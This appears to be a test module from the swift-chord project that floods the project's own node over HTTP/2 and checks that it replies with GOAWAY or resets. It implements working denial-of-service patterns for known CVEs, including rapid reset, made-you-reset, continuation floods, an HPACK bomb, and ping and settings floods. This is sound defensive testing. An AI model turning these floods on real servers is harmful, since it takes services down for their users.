# This file is part of swift-chord, a Chord node and library in Swift.
# Copyright the swift-chord contributors.
# SPDX-License-Identifier: Apache-2.0
"""Floods of HTTP/2 frames, of one client with a valid certificate."""

import random

from registry import attack
from wire import (
    CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, FIND_SUCCESSOR, HEADERS, HEADER_TABLE_SIZE,
    INITIAL_WINDOW_SIZE, PADDED, PING, PRIORITY, RST_STREAM, SETTINGS, STORE, WINDOW_UPDATE, field, frame, head,
    message, number, settings,
)  # fmt: skip

CONTROL = "goaway too_many_control_frames"
LOOKUP = field(1, bytes(8))


def flood(attacker, frames, count, begun=False):
    """Sends the same frames again and again, on one connection after the other."""
    for connection in attacker.connections():
        if begun:
            connection.send(connection.begin(head(FIND_SUCCESSOR)))
        while attacker.running() and connection.send(frames):
            connection.take_in()
            attacker.note("sent", count)


@attack("data-dribble", "CVE-2019-9511", "client", [CONTROL])
def data_dribble(attacker):
    """Answers are taken in windows of one byte."""
    for connection in attacker.connections(entries=[(INITIAL_WINDOW_SIZE, 0)]):
        block, body = head(FIND_SUCCESSOR), message(LOOKUP)
        while attacker.running() and not connection.is_closed:
            first = connection.next
            connection.send(b"".join(connection.begin(block, body) for _ in range(50)))
            streams = range(first, connection.next, 2)
            dribble = b"".join(frame(WINDOW_UPDATE, 0, stream, number(1)) for stream in streams)
            for _ in range(40):
                if not connection.send(dribble):
                    break
                connection.take_in()
                attacker.note("sent", len(streams))


@attack("ping-flood", "CVE-2019-9512", "client", [f"goaway too_many_pings|{CONTROL}"])
def ping_flood(attacker):
    """PING frames, hundreds in each write."""
    flood(attacker, frame(PING, payload=bytes(8)) * 500, 500)


@attack("priority-flood", "CVE-2019-9513", "client", [CONTROL])
def priority_flood(attacker):
    """The tree of priorities is turned over again and again."""
    choose = random.Random(1)
    frames = [
        frame(PRIORITY, 0, choose.randrange(1, 2001, 2), number(choose.randrange(0, 2000, 2)) + bytes([200]))
        for _ in range(500)
    ]
    flood(attacker, b"".join(frames), 500)


@attack("reset-flood", "CVE-2019-9514", "client", ["goaway too_many_resets|reset PROTOCOL_ERROR"])
def reset_flood(attacker):
    """Requests without a path, each of which the node must reset."""
    block = head(FIND_SUCCESSOR).replace(b":path", b":pats")
    for connection in attacker.connections():
        while attacker.running():
            if not connection.send(b"".join(connection.begin(block) for _ in range(100))):
                break
            connection.take_in()
            attacker.note("sent", 100)


@attack("settings-flood", "CVE-2019-9515", "client", [f"{CONTROL}|goaway ENHANCE_YOUR_CALM"])
def settings_flood(attacker):
    """SETTINGS frames, each to be acknowledged."""
    flood(attacker, settings((INITIAL_WINDOW_SIZE, 65535)) * 500, 500)


@attack("settings-entries", "CVE-2019-9515", "client", ["goaway ENHANCE_YOUR_CALM"])
def settings_entries(attacker):
    """SETTINGS frames with two thousand entries."""
    flood(attacker, settings(*[(HEADER_TABLE_SIZE, 4096)] * 2000) * 10, 10)


@attack("empty-headers", "CVE-2019-9516", "client", ["reset PROTOCOL_ERROR|goaway too_many_resets"])
def empty_headers(attacker):
    """Fields with empty names and empty values."""
    block = head(FIND_SUCCESSOR) + b"\0\0\0" * 1000
    for connection in attacker.connections():
        while attacker.running():
            if not connection.send(b"".join(connection.begin(block) for _ in range(20))):
                break
            connection.take_in()
            attacker.note("sent", 20)


@attack("data-buffering", "CVE-2019-9517", "client", ["node reads no more|goaway too_many_control_frames|unread"],
        memory=320)
def data_buffering(attacker):
    """The windows are open and the socket is not read, while large answers are asked for."""
    block, body = head(STORE + "List"), message(field(2, b"buffered") + field(5, 100))
    first = attacker.connect()
    for index in range(30):
        first.call(STORE + "Put", field(3, b"buffered") + field(4, b"%d" % index) + field(5, bytes(50_000)))
    attacker.end(first)
    attacker.tally.clear()
    for connection in attacker.connections(receive_buffer=4096, entries=[(INITIAL_WINDOW_SIZE, 0x7FFFFFFF)]):
        for _ in range(400):
            if not attacker.running() or not connection.send(connection.begin(block, body)):
                break
            attacker.note("sent")
        attacker.note("unread")
        attacker.stopped.wait(0.2)


@attack("empty-frames", "CVE-2019-9518", "client", ["goaway too_many_empty_frames"])
def empty_frames(attacker):
    """DATA frames without content."""
    flood(attacker, frame(DATA, 0, 1) * 500, 500, begun=True)


@attack("padded-frames", "CVE-2019-9518", "client", ["goaway too_many_empty_frames"])
def padded_frames(attacker):
    """DATA frames with nothing but padding."""
    flood(attacker, frame(DATA, PADDED, 1, b"\x10" + bytes(16)) * 500, 500, begun=True)


@attack("rapid-reset", "CVE-2023-44487", "client", ["goaway too_many_resets|goaway INTERNAL_ERROR"])
def rapid_reset(attacker):
    """Requests that are reset at once."""
    block, body = head(FIND_SUCCESSOR), message(LOOKUP)
    for connection in attacker.connections():
        while attacker.running():
            frames = []
            for _ in range(200):
                stream = connection.next
                frames += [connection.begin(block, body), frame(RST_STREAM, 0, stream, number(CANCEL))]
            if not connection.send(b"".join(frames)):
                break
            connection.take_in()
            attacker.note("sent", 200)


@attack("made-you-reset", "CVE-2025-8671", "client", ["goaway too_many_resets"])
def made_you_reset(attacker):
    """Requests followed by a window that is too large, so that the node must reset them."""
    block, body = head(FIND_SUCCESSOR), message(LOOKUP)
    for connection in attacker.connections():
        while attacker.running():
            frames = []
            for _ in range(200):
                stream = connection.next
                request = frame(HEADERS, END_HEADERS, stream, block)
                frames += [request, frame(WINDOW_UPDATE, 0, stream, number(2**31 - 1)), frame(DATA, 0, stream, body)]
                connection.next += 2
            if not connection.send(b"".join(frames)):
                break
            connection.take_in()
            attacker.note("sent", 200)


@attack("continuation-flood", "CVE-2024-28182", "client", ["goaway ENHANCE_YOUR_CALM|goaway PROTOCOL_ERROR|closed"],
        forbidden=["status 0"])
def continuation_flood(attacker):
    """A header block without an end."""
    block = head(FIND_SUCCESSOR)
    for connection in attacker.connections():
        stream = connection.stream()
        connection.send(frame(HEADERS, END_STREAM, stream, block))
        pieces = frame(CONTINUATION, 0, stream, b"\0\x01x\x7f\x00" + bytes(127)) * 50
        while attacker.running() and connection.send(pieces):
            connection.take_in()
            attacker.note("sent", 50)


@attack("hpack-bomb", "HPACK", "client", ["reset ENHANCE_YOUR_CALM|goaway too_many_resets|closed"])
def hpack_bomb(attacker):
    """An entry of 4,000 bytes in the table, named ten thousand times in each request."""
    for connection in attacker.connections():
        value = b"v" * 4000
        entry = b"\x40\x01x" + b"\x7f" + bytes([(4000 - 127) & 0x7F | 0x80, (4000 - 127) >> 7]) + value
        connection.send(frame(HEADERS, END_HEADERS, connection.stream(), head(FIND_SUCCESSOR) + entry))
        block = head(FIND_SUCCESSOR) + b"\xbe" * 10_000
        while attacker.running():
            if not connection.send(b"".join(connection.begin(block) for _ in range(20))):
                break
            connection.take_in()
            attacker.note("sent", 20)


@attack("unknown-frames", "RFC 9113 10.5", "client", [CONTROL])
def unknown_frames(attacker):
    """Frames of a kind that nobody knows."""
    flood(attacker, frame(0xFA, payload=b"?") * 500, 500)


@attack("window-flood", "RFC 9113 10.5", "client", [CONTROL])
def window_flood(attacker):
    """WINDOW_UPDATE frames of one byte each."""
    flood(attacker, frame(WINDOW_UPDATE, 0, 0, number(1)) * 500, 500)


@attack("garbage", "RFC 9113 5.4", "client", ["closed|goaway PROTOCOL_ERROR|goaway FRAME_SIZE_ERROR"])
def garbage(attacker):
    """Random bytes inside TLS."""
    choose = random.Random(2)
    for connection in attacker.connections():
        while attacker.running() and connection.send(choose.randbytes(2000)):
            connection.take_in()
            attacker.note("sent")


@attack("acknowledgements", "CVE-2019-9512", "client", ["goaway ENHANCE_YOUR_CALM|goaway too_many_pings|closed|"
                                                        "node reads no more"])
def acknowledgements(attacker):
    """Many PING and SETTINGS frames whose acknowledgements are not read."""
    frames = (frame(PING, payload=bytes(8)) + frame(SETTINGS)) * 250
    for connection in attacker.connections(receive_buffer=4096):
        while attacker.running() and connection.send(frames):
            attacker.note("sent", 500)
